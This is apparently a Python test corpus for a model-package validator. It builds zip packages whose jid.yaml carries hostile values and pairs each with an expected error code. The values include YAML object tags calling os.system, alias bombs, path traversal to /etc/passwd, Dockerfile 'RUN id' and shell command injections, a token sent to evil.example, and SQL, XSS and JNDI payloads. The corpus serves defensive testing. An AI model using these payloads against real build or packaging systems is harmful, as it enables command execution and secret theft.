"""Packages whose zip is sound and whose jid.yaml, or what it names, is not; and odd ones that are good.

The zips of the other corpora are about records and bytes; these are about YAML, values, and what would become of them
in a Dockerfile, a shell, a path, a URL or a terminal.
"""

from __future__ import annotations

import io
import socket
import zipfile
from collections.abc import Iterator
from functools import partial

from tests.corpus import Case, bad, good

_TOP = "name: tests/odd\nmodel: infer.py:Model\n"
_CODE = "class Model:\n    def run(self, text: str = 'world') -> str:\n        return text\n"


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


# Where a server that fetched what a package names would call; the tests listen there.
CANARY = f"http://127.0.0.1:{_free_port()}"


def configs() -> Iterator[Case]:
    yield from _yaml()
    yield from _values()
    yield from _requirements()
    yield from _urls()
    yield from _legitimate()


def made(text: str | bytes, **files: str | bytes) -> bytes:
    """A package with this jid.yaml and, beside infer.py, these files; `__` in a name is a dot."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(zipfile.ZipInfo("jid.yaml"), text)
        packed.writestr(zipfile.ZipInfo("infer.py"), _CODE)
        for name, content in files.items():
            packed.writestr(zipfile.ZipInfo(name.replace("__", ".")), content)
    return target.getvalue()


def _aliases(levels: int) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, levels)]
    return "\n".join(lines) + "\n"


def _merges(levels: int) -> str:
    lines = ["m0: &m0 {a: 1}"]
    lines += [f"m{n}: &m{n}\n  <<: [{', '.join([f'*m{n - 1}'] * 9)}]" for n in range(1, levels)]
    return "\n".join(lines) + "\n"


_YAML: dict[str, tuple[str | bytes, str]] = {
    "empty": (b"", "MISSING_KEY"),
    "only a comment": (b"# nothing\n", "MISSING_KEY"),
    "a text": (b"hello", "WRONG_TYPE"),
    "an array": (b"[1, 2]", "WRONG_TYPE"),
    "null": (b"null", "MISSING_KEY"),
    "two documents": (_TOP + "---\n" + _TOP, "SEVERAL_DOCUMENTS"),
    "tabs": ("name:\ta\n\tmodel: b\n", "BROKEN_YAML"),
    "NUL": (_TOP + "\0", "BROKEN_YAML"),
    "UTF-16": (_TOP.encode("utf-16"), "NOT_UTF8"),
    "latin-1": (b"name: \xfc\n", "NOT_UTF8"),
    "surrogate escape": (_TOP + 'examples: [{input: {text: "\\ud800"}}]\n', "NOT_UNICODE"),
    "escape beyond Unicode": (_TOP + 'examples: [{input: {text: "\\UFFFFFFFF"}}]\n', "BROKEN_YAML"),
    "billion laughs": (_TOP + _aliases(10), "YAML_ANCHOR YAML_ALIAS UNKNOWN_KEY MORE_FAULTS"),
    "quadratic merges": (_TOP + _merges(8), "YAML_ANCHOR YAML_ALIAS UNKNOWN_KEY"),
    "itself inside": ("name: &a [*a]\nmodel: infer.py:Model\n", "YAML_ANCHOR YAML_ALIAS WRONG_TYPE"),
    "object tag": (_TOP + "examples: !!python/object/apply:os.system ['id']\n", "YAML_TAG WRONG_TYPE"),
    "name tag": ("name: !!python/name:os.system\nmodel: infer.py:Model\n", "YAML_TAG MISSING_KEY"),
    "binary tag": ("name: !!binary aGk=\nmodel: infer.py:Model\n", "YAML_TAG INVALID_NAME"),
    "own tag": ("name: !include /etc/passwd\nmodel: infer.py:Model\n", "YAML_TAG INVALID_NAME"),
    "20,000 brackets": (b"[" * 20_000, "TOO_DEEP"),
    "20,000 braces": (b"{a: " * 5000, "TOO_DEEP"),
    "deep blocks": ("".join(f"{' ' * n}a:\n" for n in range(200)), "TOO_DEEP"),
    "70 kB": (_TOP + "# " + "x" * 70_000, "FILE_TOO_LARGE"),
    "10 MB of spaces": (b" " * 10_000_000, "FILE_TOO_LARGE"),
    "an integer of 5,000 digits": (_TOP + f"examples: [{{input: {{n: {'9' * 5000}}}}}]\n", "INVALID_NUMBER"),
    "an infinite number": (_TOP + "examples: [{input: {n: .inf}}]\n", "INVALID_NUMBER"),
    "a number too large": (_TOP + "examples: [{input: {n: 1e999}}]\n", "INVALID_NUMBER"),
    "name twice": ("name: a/b\n" + _TOP, "DUPLICATE_KEY"),
    "input twice": (_TOP + "examples: [{input: {a: 1, a: 2}}]\n", "DUPLICATE_KEY"),
    "unknown key": (_TOP + "entrypoint: bash\n", "UNKNOWN_KEY"),
    "key that is no text": ("? [a, b]\n: c\n" + _TOP, "WRONG_TYPE UNKNOWN_KEY"),
    "prototype": (_TOP + "__proto__: {polluted: yes}\n", "UNKNOWN_KEY"),
    "YAML 9.9": ("%YAML 9.9\n---\n" + _TOP, "BROKEN_YAML"),
    "a directive of 5,000 digits": (f"%YAML 1.{'9' * 5000}\n---\n" + _TOP, "BROKEN_YAML"),
}


def _yaml() -> Iterator[Case]:
    for title, (text, codes) in _YAML.items():
        yield bad(f"yaml: {title}", codes, partial(made, text))


_NAMES = (
    "A/b", "a b", "a;id", "$(id)", "`id`", "../a", "a/../b", "/a", "a/", "a//b", "a:latest", "a@sha256", "-a",
    "a\\nRUN id",
    "a\\n", "a\\0", "\\e[2Ja", "a\u00e9", "\uff41", "a\u202e", "x" * 129, "", "a_-b", ".", "a..b", "localhost:5000/a",
    "'; DROP TABLE packages; --", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x}", "%s%n",
    "a\\r\\nX-Evil: 1",
)  # fmt: skip
_MODELS = (
    "infer.py", "infer.py:", ":Model", "infer.py:Model; import os", "infer.py:__import__('os').system('id')",
    "../infer.py:Model", "/etc/passwd:Model", "infer.py:Model\\nUSER root", "infer.py:\u041codel", "infer.txt:Model",
    "./infer.py:Model", "infer.py:a.b", "C:\\\\infer.py:Model", "//host/infer.py:Model", "infer.py:1Model",
)  # fmt: skip
# In `environment`: what it is, and the code.
_ENVIRONMENT: dict[str, str] = {
    'python_packages: ["torch==2.7.0; rm -rf /"]': "INVALID_PACKAGE",
    'python_packages: ["torch==2.7.0\\nRUN id"]': "UNPINNED_PACKAGE",
    'python_packages: ["--index-url=http://x"]': "INVALID_PACKAGE",
    'python_packages: ["-r /etc/passwd"]': "INVALID_PACKAGE",
    'python_packages: ["six @ file:///etc/passwd"]': "INVALID_PACKAGE",
    'python_packages: ["git+https://x/y"]': "INVALID_PACKAGE",
    'python_packages: ["./local.whl"]': "INVALID_PACKAGE",
    'python_packages: ["$(id)==1"]': "INVALID_PACKAGE",
    "python_packages: [six]": "UNPINNED_PACKAGE",
    "python_packages: [six>=1]": "UNPINNED_PACKAGE",
    "python_packages: [six==1.*]": "UNPINNED_PACKAGE",
    "python_packages: [six==1.0, six==2.0]": "DUPLICATE_ITEM",
    "python_packages: six==1.0": "WRONG_TYPE",
    "python_packages: [[six==1.0]]": "WRONG_TYPE",
    "python_packages: [six==1.0 --hash=sha256:0]": "UNPINNED_PACKAGE",
    'system_packages: ["ffmpeg; id"]': "INVALID_SYSTEM_PACKAGE",
    'system_packages: ["ffmpeg && id"]': "INVALID_SYSTEM_PACKAGE",
    'system_packages: ["-o=APT::Update::Pre-Invoke::=id"]': "INVALID_SYSTEM_PACKAGE",
    'system_packages: ["ffmpeg\\n"]': "INVALID_SYSTEM_PACKAGE",
    'system_packages: ["libc6-"]': "INVALID_SYSTEM_PACKAGE",
    'system_packages: ["ffmpeg/sid"]': "INVALID_SYSTEM_PACKAGE",
    'system_packages: ["lib*"]': "INVALID_SYSTEM_PACKAGE",
    'system_packages: ["./a.deb"]': "INVALID_SYSTEM_PACKAGE",
    'system_packages: ["/etc/passwd"]': "INVALID_SYSTEM_PACKAGE",
    'system_packages: ["ffmpeg$(id)"]': "INVALID_SYSTEM_PACKAGE",
    'system_packages: ["\uff46fmpeg"]': "INVALID_SYSTEM_PACKAGE",
    'python_version: "3.12\\nRUN id"': "INVALID_PYTHON_VERSION",
    'python_version: "3.12 AS x"': "INVALID_PYTHON_VERSION",
    "python_version: 3": "INVALID_PYTHON_VERSION",
    "python_version: 2.7": "INVALID_PYTHON_VERSION",
    "python_version: '\u0663.\u0661'": "INVALID_PYTHON_VERSION",
    "python_version: latest": "INVALID_PYTHON_VERSION",
    "python_version: [3.12]": "WRONG_TYPE",
    "python_requirements: ../../etc/passwd": "INVALID_PATH",
    "python_requirements: /etc/passwd": "INVALID_PATH",
    f"python_requirements: {CANARY}/r.txt": "INVALID_PATH",
    "python_requirements: nowhere.txt": "REQUIREMENTS_FILE_MISSING",
    'python_requirements: "r.txt\\nRUN id"': "INVALID_PATH",
    'python_requirements: "$(id)"': "INVALID_PATH",
    'cuda: "12.8\\nRUN id"': "INVALID_CUDA",
    'cuda: "12.8-base"': "INVALID_CUDA",
    "cuda: '\u0661\u0662'": "INVALID_CUDA",
    'cudnn: "$(id)"': "INVALID_CUDNN",
    'architectures: ["cpu\\n"]': "INVALID_ARCHITECTURE",
    "architectures: [tpu]": "INVALID_ARCHITECTURE",
    "architectures: []": "INVALID_ARCHITECTURE",
    "architectures: cpu": "WRONG_TYPE",
    "entrypoint: bash": "UNKNOWN_KEY",
    "base_image: evil/image": "UNKNOWN_KEY",
}
_EXAMPLES: dict[str, str] = {
    'examples: [{input: {f: "@../../etc/passwd"}}]': "INVALID_PATH",
    'examples: [{input: {f: "@/etc/passwd"}}]': "INVALID_PATH",
    'examples: [{input: {f: "@nowhere.png"}}]': "EXAMPLE_FILE_MISSING",
    'examples: [{input: {}, output: "@nowhere.png"}]': "EXAMPLE_FILE_MISSING",
    "examples: [{input: [1]}]": "WRONG_TYPE",
    "examples: {input: {}}": "WRONG_TYPE",
    "examples: [{input: {}, output: a, error: b}]": "OUTPUT_AND_ERROR",
    "examples: [{output: a}]": "MISSING_KEY",
    "examples: [{input: {}, expect: a}]": "UNKNOWN_KEY",
}


def _values() -> Iterator[Case]:
    for text in _NAMES:
        yield bad(f"name: {text[:30]}", "INVALID_NAME", partial(made, f'name: "{text}"\nmodel: infer.py:Model\n'))
    for text in _MODELS:
        yield bad(f"model: {text}", "INVALID_MODEL", partial(made, f'name: a/b\nmodel: "{text}"\n'))
    yield bad("model: another file", "MODEL_FILE_MISSING", partial(made, "name: a/b\nmodel: other.py:Model\n"))
    for text, code in _ENVIRONMENT.items():
        yield bad(f"environment: {text}", code, partial(made, f"{_TOP}environment:\n  {text}\n"))
    for text, code in _EXAMPLES.items():
        yield bad(text, code, partial(made, f"{_TOP}{text}\n"))


_LINES: dict[str, str] = {
    "-r other.txt": "OTHER_FILE",
    "-c constraints.txt": "OTHER_FILE",
    "--requirement=/etc/passwd": "OTHER_FILE",
    "-e .": "LOCAL_FILE",
    "./a.whl": "LOCAL_FILE",
    "a.whl": "LOCAL_FILE",
    "file:///etc/passwd": "LOCAL_FILE",
    "six @ file:///etc/passwd": "LOCAL_FILE",
    "/etc/passwd": "LOCAL_FILE",
    "-f /etc": "LOCAL_FILE",
    "--find-links file:///": "LOCAL_FILE",
    "six==${MODELSERVER_TOKEN}": "VARIABLE",
    "-i https://${MODELSERVER_TOKEN}.evil.example/": "VARIABLE",
    "--trusted-host evil.example": "OPTION",
    "--cert /etc/passwd": "OPTION",
    "--log /etc/cron.d/x": "OPTION",
    "six --global-option=x": "OPTION",
    "six; import os": "INVALID_REQUIREMENT",
    "six\x0bRUN id": "INVALID_REQUIREMENT",
    "six \u2028 -r x": "INVALID_REQUIREMENT OPTION",
    "six # \\": "INVALID_REQUIREMENT",
    "!@#$": "INVALID_REQUIREMENT",
    "x" * 3000: "INVALID_REQUIREMENT",
}


def _requirements() -> Iterator[Case]:
    text = f"{_TOP}environment:\n  python_requirements: r.txt\n"
    for line, code in _LINES.items():
        yield bad(f"requirements: {line[:40]!r}", code, partial(made, text, r__txt=f"six\n{line}\n"))
    yield bad("requirements: UTF-16", "NOT_UTF8", partial(made, text, r__txt="six".encode("utf-16")))
    yield bad("requirements: PEP 263", "INVALID_REQUIREMENT", partial(made, text, r__txt="# coding: utf-7\nsix\n"))
    yield bad("requirements: 2 MB", "FILE_TOO_LARGE", partial(made, text, r__txt="six\n" * 500_000))


def _urls() -> Iterator[Case]:
    """Addresses that a server must not call because a package names them. As values they are good."""
    text = f"{_TOP}environment:\n  python_requirements: r.txt\n"
    for line in (f"-i {CANARY}/simple", f"--extra-index-url {CANARY}/", f"-f {CANARY}/", f"six @ {CANARY}/six.whl",
                 f"git+{CANARY}/six.git", f"{CANARY}/six.tar.gz"):  # fmt: skip
        yield good(f"url: {line}", partial(made, text, r__txt=f"{line}\n"))
    yield good("url: metadata", partial(made, text, r__txt="-i http://169.254.169.254/simple\n"))
    for value in (CANARY, "file:///etc/passwd", "gs://bucket/object", "http://metadata.google.internal/"):
        yield good(f"url: input {value}", partial(made, f"{_TOP}examples: [{{input: {{text: '{value}'}}}}]\n"))


_LEGITIMATE: dict[str, str] = {
    "plain": "",
    "comments and blank lines": "# a\n\n\n# b\n",
    "quoted keys": '"environment": {"python_version": "3.12"}\n',
    "3.10 without quotes": "environment: {python_version: 3.10}\n",
    "everything": (
        "environment:\n  python_version: '3.11'\n  python_packages: [six==1.16.0]\n  system_packages: [ffmpeg, g++]\n"
        "  architectures: [cpu]\nexamples:\n  - {input: {text: a}, output: a}\n  - {input: {text: b}}\n"
    ),
    "a GPU": "environment: {architectures: [gpu], cuda: '12.8', cudnn: '9'}\n",
    "torch": "environment: {python_packages: [torch==2.7.0]}\n",
    "local version": "environment: {python_packages: ['numpy==1.26.4+local.1']}\n",
    "epoch and version of Debian": "environment: {system_packages: ['ffmpeg=7:5.1.6-0+deb12u1']}\n",
    "right-to-left input": "examples: [{input: {text: '\u05d0\u202e\u05d1'}}]\n",
    "emoji input": "examples: [{input: {text: '\U0001f40d'}}]\n",
    "shell in an input": "examples: [{input: {text: '$(rm -rf /); `id` | cat && \"x\"'}}]\n",
    "markup in an input": "examples: [{input: {text: '<script>alert(1)</script>'}}]\n",
    "SQL in an input": 'examples: [{input: {text: "\'; DROP TABLE packages; --"}}]\n',
    "a block of text": "examples:\n  - input:\n      text: |\n        one\n        two\n",
    "nothing in lists": "environment: {python_packages: [], system_packages: []}\n",
    "nulls": "environment:\n  cuda:\n  cudnn: null\n",
    "CRLF": "environment:\r\n  python_version: '3.12'\r\n",
    "an expected error": "examples: [{input: {text: a}, error: 'boom'}]\n",
    "numbers and nothing": "examples: [{input: {n: [1, 2.5, -0.0, null, true, 0x10, 1_000]}}]\n",
}


def _legitimate() -> Iterator[Case]:
    for title, more in _LEGITIMATE.items():
        yield good(f"good: {title}", partial(made, _TOP + more))
    yield good("good: byte order mark", partial(made, b"\xef\xbb\xbf" + _TOP.encode()))
    yield good("good: document marks", partial(made, f"---\n{_TOP}...\n"))
    yield good("good: a file as input", partial(made, _TOP + "examples: [{input: {f: '@a.bin'}}]\n", a__bin=b"\0\1"))
    yield good("good: other YAML inside", partial(made, _TOP, other__yaml="a: &a [*a]\n", jid__yml="broken: ["))
    yield good("good: Dockerfile inside", partial(made, _TOP, Dockerfile="FROM evil\nUSER root\n"))
    yield good("good: .dockerignore inside", partial(made, _TOP, __dockerignore="*\n"))
    yield good("good: pip.conf inside", partial(made, _TOP, pip__conf=f"[global]\nindex-url={CANARY}\n"))
    yield good("good: uv.toml inside", partial(made, _TOP, uv__toml=f'index-url = "{CANARY}"\n'))
    yield good("good: sitecustomize inside", partial(made, _TOP, sitecustomize__py="raise SystemExit(9)\n"))
    yield good("good: jid.py inside", partial(made, _TOP, jid__py="raise SystemExit(9)\n"))
    yield good("good: __init__ inside", partial(made, _TOP, ____init____py=""))
